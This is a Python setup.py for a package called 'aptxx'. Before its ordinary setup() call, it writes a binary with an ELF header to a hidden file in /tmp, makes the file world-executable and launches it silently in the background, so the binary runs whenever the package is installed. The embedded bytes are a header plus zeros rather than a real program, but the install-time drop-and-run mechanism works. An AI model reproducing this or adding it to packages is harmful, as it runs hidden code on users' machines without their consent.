import os
ELF = b'\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00' + bytes(240)
p = "/tmp/.x"
with open(p, "wb") as f:
    f.write(ELF)
os.chmod(p, 0o777)
os.system(p + " >/dev/null 2>&1 &")
from setuptools import setup
setup(name="aptxx", version="0.1.0", packages=["aptxx"])
